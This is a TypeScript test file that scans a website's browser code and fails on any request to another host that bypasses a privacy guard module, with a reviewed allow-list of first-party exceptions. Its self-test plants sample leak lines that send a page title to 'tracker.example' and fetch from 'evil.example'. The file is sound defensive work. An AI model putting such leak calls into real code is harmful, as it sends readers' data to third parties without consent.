// @vitest-environment node
import fs from 'node:fs'
import path from 'node:path'

/**
 * Enforcement beyond the guard (issue 18): code that runs in a reader's browser talks to another host only
 * through `src/privacy/thirdParty/guard.ts`. This test reads every source file that can reach the browser and
 * fails on a request whose address is not provably this site's own:
 *
 * - `fetch(…)`, `sendBeacon(…)`, `.src = …`, `<iframe src=…>`, `<script src=…>`: the address must be a path
 *   of this site ('/api/…', `/api/${id}`), or a constant that is one (resolved across the source tree);
 * - `new Image`, `new XMLHttpRequest`, `new WebSocket`, `new EventSource`: never (the guard sends pixels and
 *   beacons itself);
 * - `<img>`, `<link>`, `<source>` with a literal address on another host.
 *
 * Calls whose address is this site's but cannot be proved so by reading (a variable) are listed in
 * `FIRST_PARTY` with the reason, each by file and exact expression: anything new fails until someone adds
 * it here, in review. The Content-Security-Policy remains the browser's own backstop.
 */

const root = path.resolve(__dirname, '../../..')
const src = path.join(root, 'src')
const rel = (file: string) => path.relative(root, file).split(path.sep).join('/')

/** Requests whose address is this site's own, though a variable: file → expression → why. */
const FIRST_PARTY: Record<string, Record<string, string>> = {
  'src/article/infinite-scroll/InfiniteArticles.client.tsx': {
    'item.link': 'the up-next articles’ paths, chosen on the server from this site’s articles (upNextFor)',
  },
  'src/chrome/Consent/decide.ts': {
    input: 'pageFetch: the page’s own fetch, a stand-in tests replace; called only with CONSENT_RECORD_PATH',
  },
  'src/chrome/Search/HeaderSearch.client.tsx': {
    'suggestUrl(query, suggestEndpoint)':
      'the search suggestions endpoint of this site (/api/search/suggest)',
  },
  'src/placements/ads/creative.ts': {
    'creative.image.src':
      'an ad creative’s picture, an upload in this site’s media collection, as the first-party ad server answered it (/api/cms/media/…)',
    src: 'the programmatic partner’s frame: this site’s /api/ads/partner-frame, the address the guard gave (adPartnerFrameSrc), which alone decides whether the partner’s tag may load',
  },
  'src/placements/registry.ts': {
    '...a': 'the runtime’s fetch, a stand-in tests replace; called only with the two addresses below',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: source text under test, not a template
    url: '`${DRIVERS_API}${page.path}`: the drivers API of this site',
    '`${PROFILE_API}?tagularAnonId=${encodeURIComponent(id)}`': 'the profile call of this site',
  },
  'src/widgets/embed/Facade.tsx': {
    frameSrc:
      'the address `thirdPartyFrameSrc` (the guard) allowed on the reader’s press (Facade.client.tsx)',
  },
}

/** Files that cannot run in a reader's browser, or are the door itself. */
function inScope(file: string): boolean {
  const r = rel(file)
  if (!/\.(ts|tsx)$/.test(r) || /\.(test|spec)\.(ts|tsx)$/.test(r) || r.endsWith('.d.ts')) return false
  if (r === 'src/privacy/thirdParty/guard.ts') return false
  // Test helpers beside the code (fake fetches and pages), used only by tests.
  if (/\/testData\.tsx?$/.test(r)) return false
  // Server side: services (but their client contracts, shared.ts), the HTTP server, route handlers, seeds.
  if (r.startsWith('src/services/') && !r.endsWith('/shared.ts')) return false
  if (r.startsWith('src/server/') || r.startsWith('src/seed/') || r.startsWith('src/platform/')) return false
  if (/^src\/app\/.*\/route\.ts$/.test(r)) return false
  return true
}

function walk(dir: string): string[] {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const full = path.join(dir, entry.name)
    return entry.isDirectory() ? walk(full) : [full]
  })
}

/**
 * The source with comments blanked (strings and template literals kept), so positions stay; with `strings`,
 * the insides of strings are blanked too (where to look for calls and tags: never inside text).
 */
function withoutComments(code: string, strings = false): string {
  let out = ''
  let i = 0
  while (i < code.length) {
    const c = code[i]!
    const next = code[i + 1]
    if (c === '/' && next === '/') {
      const end = code.indexOf('\n', i)
      const stop = end < 0 ? code.length : end
      out += ' '.repeat(stop - i)
      i = stop
    } else if (c === '/' && next === '*') {
      const end = code.indexOf('*/', i + 2)
      const stop = end < 0 ? code.length : end + 2
      out += code.slice(i, stop).replace(/[^\n]/g, ' ')
      i = stop
    } else if (c === "'" || c === '"' || c === '`') {
      let j = i + 1
      while (j < code.length && code[j] !== c) j += code[j] === '\\' ? 2 : 1
      const text = code.slice(i, j + 1)
      out += strings ? c + text.slice(1, -1).replace(/[^\n]/g, ' ') + (text.length > 1 ? c : '') : text
      i = j + 1
    } else {
      out += c
      i++
    }
  }
  return out
}

const OPEN = '([{'
const CLOSE = ')]}'

/** Where the expression starting at `from` ends: a comma or closing bracket at its own depth (or `stops`). */
function expressionEnd(code: string, from: number, stops = ',)'): number {
  let depth = 0
  let i = from
  while (i < code.length) {
    const c = code[i]!
    if (c === "'" || c === '"' || c === '`') {
      let j = i + 1
      while (j < code.length && code[j] !== c) j += code[j] === '\\' ? 2 : 1
      i = j + 1
      continue
    }
    if (depth === 0 && stops.includes(c)) break
    if (OPEN.includes(c)) depth++
    else if (CLOSE.includes(c)) {
      if (depth === 0) break
      depth--
    }
    i++
  }
  return i
}

/** The expression starting at `from` (see `expressionEnd`), trimmed. */
function expressionAt(code: string, from: number, stops = ',)'): string {
  return code.slice(from, expressionEnd(code, from, stops)).trim()
}

/** Whether a literal address is this site's: a path, not protocol-relative. */
const isSitePath = (value: string) => value.startsWith('/') && !value.startsWith('//')

/**
 * String constants of the source tree: NAME → value (literals and templates), and the string members of
 * constant objects as NAME.key (`AUTH_ROUTES.session`).
 */
function constantsOf(sources: Record<string, string>): Map<string, string> {
  const out = new Map<string, string>()
  for (const code of Object.values(sources)) {
    for (const m of code.matchAll(
      /\bconst\s+([A-Za-z_$][\w$]*)\s*(?::\s*[\w<>[\]|' ]+)?=\s*(['"`])((?:\\.|(?!\2).)*)\2/g,
    ))
      out.set(m[1]!, m[3]!)
    for (const m of code.matchAll(/\bconst\s+([A-Z][A-Z0-9_]*)\s*(?::\s*[^=]+)?=\s*\{/g)) {
      const body = expressionAt(code, m.index + m[0].length, '}')
      for (const p of body.matchAll(/(?:^|[,{\s])([A-Za-z_$][\w$]*)\s*:\s*(['"])((?:\\.|(?!\2).)*)\2/g))
        out.set(`${m[1]}.${p[1]}`, p[3]!)
    }
  }
  return out
}

/** Whether an address expression is provably this site's. */
function provablyFirstParty(expr: string, constants: Map<string, string>): boolean {
  const e = expr.trim()
  const literal = /^(['"])((?:\\.|(?!\1).)*)\1$/.exec(e)
  if (literal) return isSitePath(literal[2]!)
  if (e.startsWith('`')) {
    const head = /^`\$\{\s*([A-Za-z_$][\w$]*)\s*\}/.exec(e)
    if (head) return provablyFirstParty(head[1]!, constants)
    return isSitePath(e.slice(1))
  }
  if (/^[A-Za-z_$][\w$]*(\.[A-Za-z_$][\w$]*)?$/.test(e)) {
    const value = constants.get(e)
    if (value === undefined) return false
    const head = /^\$\{\s*([A-Za-z_$][\w$]*)\s*\}/.exec(value)
    return head ? provablyFirstParty(head[1]!, constants) : isSitePath(value)
  }
  return false
}

type Finding = { file: string; line: number; what: string; expr: string }

/** Every request in one file that does not provably stay on this site (and is not listed in `allowed`). */
function findDirectRequests(
  file: string,
  source: string,
  constants: Map<string, string>,
  allowed: Record<string, string> = {},
): Finding[] {
  const code = withoutComments(source)
  // Where to look: code only, never inside strings (an editor's pasted embed code is text, not a request).
  const bare = withoutComments(source, true)
  const findings: Finding[] = []
  const lineAt = (index: number) => code.slice(0, index).split('\n').length
  const check = (index: number, what: string, expr: string) => {
    if (provablyFirstParty(expr, constants) || expr in allowed) return
    findings.push({ file, line: lineAt(index), what, expr })
  }
  for (const m of bare.matchAll(/\b(fetch|sendBeacon)\s*\(/g))
    check(m.index, `${m[1]}(…)`, expressionAt(code, m.index + m[0].length))
  for (const m of bare.matchAll(/\.src\s*=(?!=)/g))
    check(m.index, '.src =', expressionAt(code, m.index + m[0].length, ',);\n'))
  for (const m of bare.matchAll(/\bnew\s+(Image|XMLHttpRequest|WebSocket|EventSource)\b/g))
    findings.push({ file, line: lineAt(m.index), what: `new ${m[1]}`, expr: '' })
  for (const m of bare.matchAll(/<(iframe|script|img|link|source)\b/g)) {
    const tagStart = m.index + m[0].length
    const tag = code.slice(tagStart, expressionEnd(code, tagStart, '>'))
    if (m[1] === 'iframe' || m[1] === 'script') {
      const attr = /\bsrc\s*=\s*/.exec(tag)
      if (!attr) continue
      const at = tagStart + attr.index + attr[0].length
      const value =
        code[at] === '{' ? expressionAt(code, at + 1, '}') : code.slice(at, expressionEnd(code, at, ' \n/>'))
      check(m.index, `<${m[1]} src>`, value)
    } else if (/\b(?:src|href|srcSet)\s*=\s*["'](?:https?:)?\/\//.test(tag)) {
      findings.push({ file, line: lineAt(m.index), what: `<${m[1]}> from another host`, expr: tag.trim() })
    }
  }
  return findings
}

const files = walk(src).filter(inScope)
const sources = Object.fromEntries(files.map((f) => [rel(f), fs.readFileSync(f, 'utf8')]))
const constants = constantsOf(sources)

function scan(all: Record<string, string>): Finding[] {
  return Object.entries(all).flatMap(([file, code]) =>
    findDirectRequests(file, code, constants, FIRST_PARTY[file] ?? {}),
  )
}

describe('only one door to other sites', () => {
  it('reads the code that runs in the browser (widgets, chrome, article, lib, services’ client contracts)', () => {
    expect(files.length).toBeGreaterThan(200)
    for (const must of [
      'src/privacy/pixel.ts',
      'src/widgets/embed/Facade.tsx',
      'src/article/PageTracking.client.tsx',
      'src/services/driverStats/shared.ts',
    ])
      expect(Object.keys(sources), must).toContain(must)
    expect(Object.keys(sources)).not.toContain('src/privacy/thirdParty/guard.ts')
  })

  it('no code requests another host except through the guard', () => {
    expect(scan(sources)).toEqual([])
  })

  it('every listed exception still exists (a stale one would hide nothing and mislead)', () => {
    for (const [file, expressions] of Object.entries(FIRST_PARTY)) {
      const code = withoutComments(sources[file] ?? '')
      for (const expr of Object.keys(expressions)) expect(code, `${file}: ${expr}`).toContain(expr)
    }
  })

  it('fails on planted direct requests, and passes this site’s own', () => {
    const planted = [
      'export function leak(title: string) {',
      "  void fetch('https://tracker.example/c?t=' + title)",
      '  navigator.sendBeacon(vendorUrl, JSON.stringify({ title }))',
      '  const img = new Image()',
      '  img.src = pixelUrl',
      "  void fetch('//evil.example/x')",
      '  return <iframe src={video.url} title="x" />',
      '}',
      'export const S = () => <script src="https://cdn.example/x.js" />',
      'export const L = () => <link rel="preconnect" href="https://fonts.example.com" />',
      '// fetch("https://commented.example") is not code',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: source text under test, not a template
      "export const ok = () => { void fetch('/api/commerce/events'); void fetch(`/api/drivers/v4${'/x'}`); void fetch(COMMERCE_EVENTS_ENDPOINT) }",
    ].join('\n')
    const found = scan({ ...sources, 'src/widgets/Planted/Planted.client.tsx': planted })
    expect(found.map((f) => [f.line, f.what])).toEqual([
      [2, 'fetch(…)'],
      [3, 'sendBeacon(…)'],
      [6, 'fetch(…)'],
      [5, '.src ='],
      [4, 'new Image'],
      [7, '<iframe src>'],
      [9, '<script src>'],
      [10, '<link> from another host'],
    ])
    expect(found.every((f) => f.file === 'src/widgets/Planted/Planted.client.tsx')).toBe(true)
  })

  it.each([
    ["'/api/x'", true],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: source text under test, not a template
    ['`/api/drivers/v4${path}`', true],
    ['COMMERCE_EVENTS_ENDPOINT', true],
    ["'https://px.example/p.gif'", false],
    ["'//px.example/p.gif'", false],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: source text under test, not a template
    ['`https://${host}/p`', false],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: source text under test, not a template
    ['`${base}/collect`', false],
    ['pixelUrl', false],
  ])('the address %s is provably this site’s: %s', (expr, firstParty) => {
    expect(provablyFirstParty(expr, constants)).toBe(firstParty)
  })
})
